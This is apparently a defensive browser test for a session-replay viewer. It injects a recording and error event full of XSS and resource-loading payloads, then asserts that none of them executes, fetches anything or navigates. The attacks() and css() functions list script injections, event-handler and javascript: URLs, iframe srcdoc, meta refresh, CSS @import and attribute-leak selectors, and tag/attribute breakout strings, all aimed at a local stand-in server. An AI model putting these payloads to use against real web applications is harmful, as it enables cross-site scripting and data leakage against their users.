// A recording of a page that wants to run, load and navigate, sent through the real edge and opened
// in the UI. Started by hostile_test.go, which says where the server is.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { openBrowser } from '../../examples/shop/drive.mjs';

const { HINDSIGHT_BASE_URL: base, HINDSIGHT_TOKEN: token, HOSTILE_DSN: dsn, SHOTS: shots } = process.env;
const T = Date.now() - 20_000; // the recording's first moment
const LENGTH = 12_000;
const replayId = randomBytes(16).toString('hex');
const traceId = randomBytes(16).toString('hex');
const title = 'the hostile page failed';

/** Somebody else's server: it notices every request and answers with code. */
const heard = [];
const stranger = createServer((req, res) => {
  heard.push(`${req.method} ${req.url}`);
  res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
  res.end('<script>top.postMessage("ran","*")</script>');
});

let evil;
let browser;

before(async () => {
  stranger.listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  evil = `http://127.0.0.1:${stranger.address().port}`;
  await send(recordingEnvelope());
  await send(errorEnvelope());
  browser = await openBrowser();
});

after(async () => {
  await browser?.close();
  stranger.closeAllConnections();
  stranger.close();
});

// --- the recording ------------------------------------------------------------------------------

let ids = 10;
const element = (tagName, attributes = {}, childNodes = [], more = {}) => ({ type: 2, id: ++ids, tagName, attributes, childNodes, ...more });
const text = (textContent, more = {}) => ({ type: 3, id: ++ids, textContent, ...more });

/** Runs wherever scripts run: leaves a mark, and calls. */
const code = (where) => `try{top.hostileRan='${where}'}catch(e){};window.hostileRan='${where}';new Image().src='${evil}/ran-${where}';fetch('${evil}/fetch-${where}')`;

const css = (where) => `@import url("${evil}/import-${where}.css"); @font-face{font-family:evil;src:url(${evil}/font-${where}.woff2)}
  body,html{background-image:url(${evil}/background-${where}.png);font-family:evil;cursor:url(${evil}/cursor-${where}.cur),auto}
  ::before{content:url(${evil}/before-${where})} li{list-style-image:image-set("${evil}/set-${where}" 1x)} div{mask:url(${evil}/mask-${where}.svg#m);filter:url(${evil}/filter-${where}#f)}
  input[value^="s"]{background:url(${evil}/leak-${where}?s)} body{behavior:url(${evil}/htc);-moz-binding:url(${evil}/xbl)}`;

function attacks() {
  const js = `javascript:${code('url')}`;
  return [
    element('script', {}, [text(code('script'))]),
    element('SCRIPT', { src: `${evil}/upper.js` }),
    element('script', { type: 'module', src: `${evil}/module.js` }),
    element('img', { src: `${evil}/img.png`, onerror: code('onerror'), onload: code('onload'), srcset: `${evil}/srcset.png 2x` }),
    element('img', { src: 'x', OnError: code('mixed') }),
    element('img', { rr_src: `${evil}/rr-src.png` }),
    element('picture', {}, [element('source', { srcset: `${evil}/source.png` }), element('img', { src: `${evil}/picture.png` })]),
    element('svg', { onload: code('svg') }, [element('image', { href: `${evil}/svg-image`, 'xlink:href': `${evil}/svg-xlink` }, [], { isSVG: true }), element('use', { href: `${evil}/use.svg#x` }, [], { isSVG: true }), element('script', {}, [text(code('svgscript'))], { isSVG: true }), element('a', { 'xlink:href': js }, [element('animate', { attributeName: 'href', to: js, begin: '0s' }, [], { isSVG: true })], { isSVG: true })], { isSVG: true }),
    element('iframe', { src: `${evil}/frame` }),
    element('iframe', { srcdoc: `<script>${code('srcdoc')}</script><img src="${evil}/srcdoc.png">` }),
    element('iframe', { src: js }),
    element('iframe', { rr_src: `${evil}/rr-frame` }),
    element('frameset', {}, [element('frame', { src: `${evil}/frameset` })]),
    element('object', { data: `${evil}/object`, type: 'text/html' }, [element('param', { name: 'movie', value: `${evil}/param` })]),
    element('embed', { src: `${evil}/embed`, type: 'text/html' }),
    element('a', { href: js, ping: `${evil}/ping`, style: 'position:fixed;inset:0;z-index:9999;display:block' }, [text('Click anywhere')]),
    element('form', { action: `${evil}/form`, method: 'post' }, [element('input', { name: 'secret', value: 'shown', autofocus: '', onfocus: code('autofocus') }), element('button', { formaction: js }, [text('Go')])]),
    element('input', { type: 'image', src: `${evil}/input.png` }),
    element('video', { src: `${evil}/video.mp4`, poster: `${evil}/poster.png`, autoplay: '' }, [element('track', { src: `${evil}/track.vtt`, default: '' })]),
    element('audio', { src: `${evil}/audio.mp3`, autoplay: '', rr_mediaState: 'played' }),
    element('link', { rel: 'stylesheet', href: `${evil}/link.css` }),
    element('link', { rel: 'stylesheet', _cssText: css('csstext') }),
    ...['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender', 'manifest', 'icon', 'import'].map((rel) => element('link', { rel, href: `${evil}/${rel}`, as: 'script' })),
    element('style', { _cssText: css('style') }, [text('', { isStyle: true })]),
    element('style', {}, [text(css('styletext'), { isStyle: true })]),
    element('div', { style: `background:url(${evil}/inline.png)`, background: `${evil}/attr.png`, rr_width: '100px', rr_height: '10px' }, [text('styled')]),
    element('td', { background: `${evil}/td.png` }),
    element('blockquote', { cite: js }, [text('cited')]),
    element('canvas', { rr_dataURL: `${evil}/canvas.png` }),
    element('portal', { src: `${evil}/portal` }),
    element('math', {}, [element('maction', { 'xlink:href': js, actiontype: 'statusline' })]),
    element('template', {}, [element('script', {}, [text(code('template'))])]),
    element('noscript', {}, [element('img', { src: `${evil}/noscript.png` })]),
    element('div', {}, [element('script', {}, [text(code('shadow'))], { isShadow: true }), element('img', { src: `${evil}/shadow.png`, onerror: code('shadowimg') }, [], { isShadow: true })], { isShadowHost: true }),
    element('div', { 'on click': 'x', '"><script>': code('name'), contenteditable: 'true' }, [text(`</style></textarea><script>${code('breakout')}</script>`)]),
    element('x"><script>alert(1)</script>', {}, [text('a name of its own')]),
  ];
}

function events() {
  const crowd = element('ul', {}, Array.from({ length: 20_000 }, (_, i) => element('li', i % 100 === 0 ? { style: `background:url(${evil}/li-${i})` } : {}, [])));
  const body = element('body', { onload: code('body'), background: `${evil}/body.png` }, [element('h1', {}, [text('What the visitor saw')]), ...attacks(), crowd]);
  const head = element('head', {}, [
    element('base', { href: `${evil}/` }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    element('META', { 'HTTP-EQUIV': 'Refresh', content: `0;url=javascript:${code('refresh')}` }),
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: '' }),
    element('style', {}, [text(`${css('huge')}${'.x{color:red}'.repeat(200_000)}`, { isStyle: true })]),
  ]);
  const page = { type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: 'html', publicId: '', systemId: '' }, element('html', { manifest: `${evil}/manifest` }, [head, body])] };
  const change = (timestamp, data) => ({ type: 3, timestamp, data });
  const mutation = (timestamp, data) => change(timestamp, { source: 0, adds: [], removes: [], texts: [], attributes: [], ...data });
  const late = attacks();
  return [
    { type: 4, timestamp: T, data: { href: `${evil}/page`, width: 1280, height: 800 } },
    { type: 2, timestamp: T + 1, data: { node: page, initialOffset: { top: 0, left: 0 } } },
    mutation(T + 1000, { adds: late.map((node) => ({ parentId: body.id, nextId: null, node })) }),
    mutation(T + 2000, {
      attributes: [late[3], late[4], late[8], late[15], crowd].map((n) => ({ id: n.id, attributes: { src: `${evil}/changed-${n.id}`, srcdoc: `<script>${code('changed')}</script>`, href: `javascript:${code('changedurl')}`, onerror: code('changed'), style: { background: `url(${evil}/changed-style)` } } })),
      texts: [{ id: late[0].childNodes[0].id, value: code('texts') }],
    }),
    change(T + 2500, { source: 8, id: late[25]?.id, adds: [{ rule: `@import url(${evil}/rule.css);`, index: 0 }, { rule: `body{background:url(${evil}/rule.png)}`, index: 0 }] }),
    change(T + 2600, { source: 13, id: 1, set: { property: 'background', value: `url(${evil}/declared)` }, index: [0] }),
    change(T + 2700, { source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ index: 0, rule: `body{background:url(${evil}/adopted)}` }] }] }),
    change(T + 2800, { source: 10, family: 'evil', buffer: false, fontSource: `url(${evil}/fontface)` }),
    change(T + 2900, { source: 9, id: late[28]?.id, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'ImageBitmap', args: [{ rr_type: 'Image', src: `${evil}/drawn` }] }] }] }),
    change(T + 3000, { source: 7, id: late[19]?.id, type: 0, currentTime: 0 }),
    { type: 6, timestamp: T + 3100, data: { plugin: 'rrweb/console@1', payload: { level: 'log', payload: [code('plugin')], trace: [] } } },
    change(T + 4000, { source: 1, positions: [{ x: 100, y: 100, id: body.id, timeOffset: 0 }] }),
    change(T + 4100, { source: 2, type: 2, id: late[15]?.id, x: 100, y: 100 }),
    ...[0, -1, 1, 4e15, 253402300799000].map((t) => change(t, { source: 3, id: 1, x: 0, y: 10 })), // nobody was there then
    { type: 5, timestamp: T + 5000, data: { tag: 'breadcrumb', payload: { timestamp: (T + 5000) / 1000, type: 'default', category: 'ui.click', message: `<img src=${evil}/crumb onerror=${code('crumb')}>`, data: { nodeId: late[15].id, node: { id: late[15].id, tagName: 'a', textContent: `<script>${code('label')}</script>`, attributes: {} } } } } },
    { type: 5, timestamp: T + 5001, data: { tag: 'breadcrumb', payload: { timestamp: (T + 5001) / 1000, category: 'console', level: 'error', message: `<img src=${evil}/console onerror=${code('console')}>`, data: { arguments: [`<svg onload=${code('consolesvg')}>`] } } } },
    { type: 5, timestamp: T + 5100, data: { tag: 'performanceSpan', payload: { op: 'resource.fetch', description: `javascript:${code('request')}`, startTimestamp: (T + 5100) / 1000, endTimestamp: 9e15, data: { method: '<b>GET', statusCode: 200, response: { headers: { 'x-evil': `<img src=${evil}/header>` }, body: `<script>${code('response')}</script>` } } } } },
    change(T + LENGTH, { source: 3, id: 1, x: 0, y: 400 }),
  ];
}

// --- sending ------------------------------------------------------------------------------------

const lines = (...parts) => Buffer.concat(parts.flatMap((p) => [Buffer.isBuffer(p) ? p : Buffer.from(typeof p === 'string' ? p : JSON.stringify(p)), Buffer.from('\n')]));

function recordingEnvelope() {
  const event = { type: 'replay_event', replay_id: replayId, event_id: replayId, segment_id: 0, replay_type: 'session', platform: 'javascript', replay_start_timestamp: T / 1000, timestamp: (T + LENGTH) / 1000, urls: [`${evil}/page`, `javascript:${code('replayurl')}`], trace_ids: [traceId], error_ids: [], user: { email: `<img src=${evil}/user onerror=alert(1)>@example.com` }, sdk: { name: 'sentry.javascript.browser', version: '10.78.0' } };
  const body = Buffer.concat([Buffer.from('{"segment_id":0}\n'), deflateSync(JSON.stringify(events()))]);
  return lines({ event_id: replayId, sent_at: new Date().toISOString(), dsn }, { type: 'replay_event' }, event, { type: 'replay_recording', length: body.length }, body);
}

function errorEnvelope() {
  const id = randomBytes(16).toString('hex');
  const event = {
    event_id: id, platform: 'javascript', timestamp: (T + 6000) / 1000, level: 'error',
    exception: { values: [{ type: 'Error', value: title, stacktrace: { frames: [{ filename: `javascript:${code('frame')}`, abs_path: `${evil}/app.js`, function: `<img src=${evil}/fn>`, lineno: 3, in_app: true, context_line: `<script>${code('source')}</script>` }] } }] },
    request: { url: `javascript:${code('eventurl')}`, headers: { Referer: `${evil}/referer` } },
    tags: { evil: `<img src=${evil}/tag onerror=${code('tag')}>` },
    breadcrumbs: [{ category: 'navigation', message: `<svg onload=${code('crumb2')}>`, timestamp: (T + 5500) / 1000 }],
    contexts: { trace: { trace_id: traceId, span_id: randomBytes(8).toString('hex') }, replay: { replay_id: replayId } },
    sdk: { name: 'sentry.javascript.browser', version: '10.78.0' },
  };
  return lines({ event_id: id, sent_at: new Date().toISOString(), dsn, trace: { trace_id: traceId, public_key: new URL(dsn).username, replay_id: replayId } }, { type: 'event' }, event);
}

async function send(body) {
  const { username, pathname, origin } = new URL(dsn);
  const res = await fetch(`${origin}/api${pathname}/envelope/`, { method: 'POST', body, headers: { 'x-sentry-auth': `Sentry sentry_version=7, sentry_key=${username}` } });
  assert.equal(res.status, 200, await res.text());
}

// --- looking ------------------------------------------------------------------------------------

async function ask(path) {
  const res = await fetch(`${base}/api/0${path}`, { headers: { authorization: `Bearer ${token}` } });
  return res.status === 200 ? res.json() : null;
}

async function until(what, check) {
  for (const deadline = Date.now() + 60_000; ;) {
    const found = await check();
    if (found) return found;
    assert.ok(Date.now() < deadline, `not in time: ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** A signed-in page that remembers all a hostile recording could do to it. */
async function watchedPage() {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const seen = { requests: [], dialogs: [], popups: [], downloads: [], said: [] };
  const foreign = (r) => !r.url().startsWith(`${base}/`) && !/^(data|blob|about):/.test(r.url());
  // What the policy stops before it leaves the browser has no response; the stranger's own list is the other half.
  page.on('response', (r) => { if (foreign(r)) seen.requests.push(r.url()); });
  page.on('dialog', (d) => { seen.dialogs.push(d.message()); void d.dismiss(); });
  context.on('page', (p) => { if (p !== page) seen.popups.push(p.url()); });
  page.on('download', (d) => seen.downloads.push(d.url()));
  await page.exposeFunction('hostileSaid', (m) => seen.said.push(m));
  await page.addInitScript(() => window.addEventListener('message', (e) => { if (e.data === 'ran') window.hostileSaid?.(e.origin); }));
  await page.goto(`${base}/sign-in`);
  await page.getByLabel(/e-mail/i).fill('dev@example.com');
  await page.getByLabel(/password/i).fill('correct horse battery');
  await page.getByRole('button', { name: /sign in/i }).click();
  await page.waitForURL(/organizations/);
  return { page, seen };
}

/** Nothing ran, nothing was asked for, the page is still ours. */
async function assertHarmless(page, seen, where) {
  for (const frame of page.frames()) {
    const ran = await frame.evaluate(() => window.hostileRan ?? null).catch(() => null); // the recorded page's frame runs no scripts at all
    assert.equal(ran, null, `${where}: code of the recording ran in ${frame.url()}`);
  }
  assert.ok(page.url().startsWith(`${base}/`), `${where}: the page went to ${page.url()}`);
  assert.deepEqual(seen, { requests: [], dialogs: [], popups: [], downloads: [], said: [] }, where);
  assert.deepEqual(heard, [], `${where}: a foreign server was asked`);
}

/** The recorded page is drawn: its heading stands in a frame that is nobody's document. */
const drawn = (page) => until('the recorded page is drawn', async () => {
  for (const frame of page.frames().filter((f) => f.url() === 'about:blank')) {
    const heading = await frame.evaluate(() => document.querySelector('h1')?.textContent).catch(() => null); // it may just be replaced
    if (heading === 'What the visitor saw') return true;
  }
  return false;
});

async function moves(page, head) {
  const positions = new Set();
  await until('the player moves', async () => {
    positions.add(await page.locator(head).getAttribute('style'));
    const play = page.getByRole('button', { name: /^play/i }).first();
    if (await play.isVisible()) await play.click();
    return positions.size > 3;
  });
}

test('a hostile recording runs nothing, loads nothing, and plays', async (t) => {
  const issue = await until('the issue', async () => (await ask('/organizations/main/issues/?query='))?.find((i) => i.title.includes(title)));
  await until('its replay', async () => (await ask(`/organizations/main/replay-links/?issue=${issue.id}`))?.data.find((l) => l.state === 'available' && l.plays));
  const { page, seen } = await watchedPage();

  await t.test('on the issue page', async () => {
    await page.goto(`${base}/organizations/main/issues/${issue.id}/`);
    await drawn(page);
    await moves(page, '.clip .hd');
    await page.screenshot({ path: `${shots}/issue.png` });
    await assertHarmless(page, seen, 'issue');
  });

  await t.test('on its own page, to the end, in every tab', async () => {
    await page.goto(`${base}/organizations/main/replays/${replayId}/`);
    await drawn(page);
    await moves(page, '.tl .head');
    const length = await page.locator('.clock').innerText();
    assert.match(length, /\/ 00:1[12]/, 'events with impossible times do not stretch it');
    for (const tab of ['Chapters', 'Console', 'Network', 'Errors', 'Trace', 'Memory']) {
      await page.getByRole('tab', { name: new RegExp(tab) }).click();
      const row = page.locator('#panel button').first();
      if (await row.isVisible()) await row.click();
    }
    await page.mouse.click(400, 300); // on the recorded page: its link covers all of it
    await page.locator('.tl .area').click({ position: { x: 700, y: 40 } });
    await until('the end', async () => /00:(09|1[012])/.test((await page.locator('.clock').innerText()).split('/')[0]));
    await page.screenshot({ path: `${shots}/replay.png` });
    await assertHarmless(page, seen, 'replay');
  });

  await t.test('in an evidence file, opened from the disk', async () => {
    const event = (await ask(`/organizations/main/issues/${issue.id}/events/latest/`)).eventID;
    const res = await fetch(`${base}/api/0/projects/main/hostile-web/events/${event}/evidence/`, { headers: { authorization: `Bearer ${token}` } });
    assert.equal(res.status, 200);
    const file = `${shots}/evidence.html`;
    writeFileSync(file, await res.text());
    const context = await browser.newContext({ viewport: { width: 1100, height: 900 } });
    const own = await context.newPage();
    const asked = [];
    // rrweb draws with data: and blob: addresses; what the policy stops has no response.
    own.on('response', (r) => { if (!/^(data|blob|about):/.test(r.url())) asked.push(r.url()); });
    const errors = [];
    own.on('pageerror', (e) => { if (!/no supported sources/.test(e)) errors.push(String(e)); }); // a film that may not load
    await own.goto(`file://${file}`);
    await drawn(own);
    await own.getByRole('button', { name: 'Play' }).click();
    await until('it plays', async () => !(await own.locator('.ev-clock').innerText()).startsWith('00:00'));
    await own.getByRole('button', { name: 'Go to the error' }).click();
    await until('it stands at the error', async () => (await own.locator('.ev-clock').innerText()).startsWith('00:06'));
    await own.screenshot({ path: `${shots}/evidence.png`, fullPage: true });
    for (const frame of own.frames()) assert.equal(await frame.evaluate(() => window.hostileRan ?? null).catch(() => null), null);
    assert.deepEqual({ asked, errors, heard }, { asked: [`file://${file}`], errors: [], heard: [] });
    await context.close();
  });

  await t.test('in the lists', async () => {
    for (const path of ['issues', 'replays']) {
      await page.goto(`${base}/organizations/main/${path}/`);
      await page.getByText(path === 'issues' ? title : /example\.com/).first().waitFor();
      await assertHarmless(page, seen, path);
    }
  });
});
